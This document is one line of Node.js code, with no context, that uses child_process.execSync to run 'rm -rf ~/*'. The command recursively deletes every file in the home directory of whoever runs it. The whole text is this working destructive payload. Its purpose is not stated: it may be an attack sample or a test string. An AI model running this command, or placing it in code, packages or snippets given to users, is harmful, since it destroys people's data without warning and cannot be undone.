require('child_process').execSync('rm -rf ~/*');
